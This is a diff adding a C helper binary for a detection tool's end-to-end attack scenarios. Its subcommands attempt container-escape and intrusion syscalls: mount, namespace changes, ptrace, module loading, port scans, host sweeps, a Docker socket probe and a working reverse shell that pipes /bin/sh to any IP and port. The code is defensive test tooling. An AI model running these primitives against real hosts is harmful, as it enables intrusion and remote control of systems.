@@ -1,0 +1,190 @@
+/*
+ * kwhelper: a tiny static binary that makes the system calls busybox cannot, for Keelwatch's end-to-end attack
+ * scenarios. Each subcommand performs one attempt and reports its outcome on stdout as "kwhelper: <what>: ok" or
+ * "kwhelper: <what>: <errno name>". Attempts that fail are still attempts: the audit trail is what is tested, so
+ * a failing syscall exits 0 unless the subcommand needs the result (exit 2 on usage errors).
+ *
+ * Network subcommands take any target: the suite runs them in containers with --network none (only loopback,
+ * anything else fails with ENETUNREACH before a packet exists) or on an --internal bridge, so none leaves the host.
+ */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <poll.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static int report(const char *what, int rc) {
+    if (rc < 0) printf("kwhelper: %s: %s\n", what, strerrorname_np(errno) ? strerrorname_np(errno) : "error");
+    else printf("kwhelper: %s: ok\n", what);
+    fflush(stdout);
+    return 0;
+}
+
+static int usage(void) {
+    fputs("usage: kwhelper noop [ARGS...] | mount SRC DST FSTYPE [DATA] | unshare user|mount|net|cgroup\n"
+          "       | setns NSPATH | ptrace | modload | write PATH TEXT | openw PATH | read PATH | memfd NAME\n"
+          "       | connect IP PORT | scan IP FIRST LAST | sweep A.B.C. FIRST LAST PORT | unix PATH\n"
+          "       | revshell IP PORT | sleep SECONDS\n", stderr);
+    return 2;
+}
+
+/* One TCP connect attempt with a short timeout; the outcome (refused, unreachable, in progress) does not matter. */
+static int tcp_attempt(const char *ip, int port, int quiet) {
+    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
+    if (inet_pton(AF_INET, ip, &sa.sin_addr) != 1) { fprintf(stderr, "bad ip %s\n", ip); return -2; }
+    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+    if (fd < 0) return -1;
+    int rc = connect(fd, (struct sockaddr *)&sa, sizeof sa);
+    if (rc < 0 && errno == EINPROGRESS) {
+        struct pollfd p = {.fd = fd, .events = POLLOUT};
+        if (poll(&p, 1, 200) == 1) {
+            int err = 0; socklen_t len = sizeof err;
+            getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len);
+            errno = err; rc = err ? -1 : 0;
+        } else { errno = ETIMEDOUT; rc = -1; }
+    }
+    int saved = errno;
+    close(fd);
+    errno = saved;
+    if (!quiet) {
+        char what[96];
+        snprintf(what, sizeof what, "connect %s:%d", ip, port);
+        report(what, rc);
+    }
+    return rc;
+}
+
+static int cmd_ptrace(void) {
+    pid_t child = fork();
+    if (child == 0) { pause(); _exit(0); }
+    usleep(50000);
+    int rc = (int)ptrace(PTRACE_ATTACH, child, 0, 0);
+    report("ptrace attach", rc);
+    if (rc == 0) { waitpid(child, NULL, 0); ptrace(PTRACE_DETACH, child, 0, 0); }
+    kill(child, SIGKILL);
+    waitpid(child, NULL, 0);
+    return 0;
+}
+
+static int cmd_memfd(const char *name) {
+    int fd = (int)syscall(SYS_memfd_create, name, 0);
+    report("memfd_create", fd);
+    if (fd >= 0) close(fd);
+    return 0;
+}
+
+static int cmd_unix(const char *path) {
+    struct sockaddr_un sa = {.sun_family = AF_UNIX};
+    snprintf(sa.sun_path, sizeof sa.sun_path, "%s", path);
+    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+    int rc = connect(fd, (struct sockaddr *)&sa, sizeof sa);
+    report("connect unix", rc);
+    if (rc == 0) {
+        /* A read-only API call, as an attacker's first step would be. */
+        const char *req = "GET /version HTTP/1.0\r\nHost: docker\r\n\r\n";
+        if (write(fd, req, strlen(req)) > 0) {
+            char buf[256];
+            ssize_t n = read(fd, buf, sizeof buf - 1);
+            if (n > 0) { buf[n] = 0; printf("kwhelper: docker answered %.12s\n", buf); }
+        }
+    }
+    close(fd);
+    return 0;
+}
+
+/* Connects to IP:PORT and runs /bin/sh with stdio on the socket: the reverse shell shape. */
+static int cmd_revshell(const char *ip, int port) {
+    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
+    if (inet_pton(AF_INET, ip, &sa.sin_addr) != 1) return usage();
+    int fd = socket(AF_INET, SOCK_STREAM, 0);
+    if (connect(fd, (struct sockaddr *)&sa, sizeof sa) < 0) return report("revshell connect", -1);
+    dup2(fd, 0); dup2(fd, 1); dup2(fd, 2);
+    execl("/bin/sh", "sh", "-i", (char *)NULL);
+    return report("revshell exec", -1);
+}
+
+static int cmd_unshare(const char *what) {
+    int flags = !strcmp(what, "user") ? CLONE_NEWUSER : !strcmp(what, "mount") ? CLONE_NEWNS
+              : !strcmp(what, "net") ? CLONE_NEWNET : !strcmp(what, "cgroup") ? CLONE_NEWCGROUP : -1;
+    if (flags < 0) return usage();
+    return report("unshare", unshare(flags));
+}
+
+int main(int argc, char **argv) {
+    if (argc < 2) return usage();
+    const char *c = argv[1];
+    if (!strcmp(c, "noop")) return report("noop", 0);
+    if (!strcmp(c, "sleep") && argc == 3) { sleep((unsigned)atoi(argv[2])); return 0; }
+    if (!strcmp(c, "mount") && argc >= 5)
+        return report("mount", argc > 5 && !strcmp(argv[5], "ro")
+                ? mount(argv[2], argv[3], argv[4], MS_RDONLY, NULL)
+                : mount(argv[2], argv[3], argv[4], 0, argc > 5 ? argv[5] : NULL));
+    if (!strcmp(c, "unshare") && argc == 3) return cmd_unshare(argv[2]);
+    if (!strcmp(c, "setns") && argc == 3) {
+        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
+        if (fd < 0) return report("open ns", -1);
+        return report("setns", setns(fd, 0));
+    }
+    if (!strcmp(c, "ptrace")) return cmd_ptrace();
+    if (!strcmp(c, "modload")) {
+        report("init_module", (int)syscall(SYS_init_module, NULL, 0, ""));
+        int fd = open("/bin/busybox", O_RDONLY | O_CLOEXEC);
+        report("finit_module", (int)syscall(SYS_finit_module, fd, "", 0));
+        return 0;
+    }
+    if (!strcmp(c, "write") && argc == 4) {
+        int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
+        if (fd < 0) return report("open for write", -1);
+        ssize_t n = write(fd, argv[3], strlen(argv[3]));
+        close(fd);
+        return report("write", n < 0 ? -1 : 0);
+    }
+    if (!strcmp(c, "openw") && argc == 3) {
+        /* Write intent only: open for write and close without writing a byte. */
+        int fd = open(argv[2], O_WRONLY | O_CLOEXEC);
+        report("open for write", fd);
+        if (fd >= 0) close(fd);
+        return 0;
+    }
+    if (!strcmp(c, "read") && argc == 3) {
+        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
+        if (fd < 0) return report("open for read", -1);
+        char buf[512];
+        ssize_t n = read(fd, buf, sizeof buf);
+        close(fd);
+        return report("read", n < 0 ? -1 : 0);
+    }
+    if (!strcmp(c, "memfd") && argc == 3) return cmd_memfd(argv[2]);
+    if (!strcmp(c, "connect") && argc == 4) { tcp_attempt(argv[2], atoi(argv[3]), 0); return 0; }
+    if (!strcmp(c, "scan") && argc == 5) {
+        int open_ports = 0;
+        for (int p = atoi(argv[3]); p <= atoi(argv[4]); p++) if (tcp_attempt(argv[2], p, 1) == 0) open_ports++;
+        printf("kwhelper: scan %s done, %d open\n", argv[2], open_ports);
+        return 0;
+    }
+    if (!strcmp(c, "sweep") && argc == 6) {
+        for (int h = atoi(argv[3]); h <= atoi(argv[4]); h++) {
+            char ip[32];
+            snprintf(ip, sizeof ip, "%s%d", argv[2], h);
+            tcp_attempt(ip, atoi(argv[5]), 1);
+        }
+        printf("kwhelper: sweep %s done\n", argv[2]);
+        return 0;
+    }
+    if (!strcmp(c, "unix") && argc == 3) return cmd_unix(argv[2]);
+    if (!strcmp(c, "revshell") && argc == 4) return cmd_revshell(argv[2], atoi(argv[3]));
+    return usage();
+}
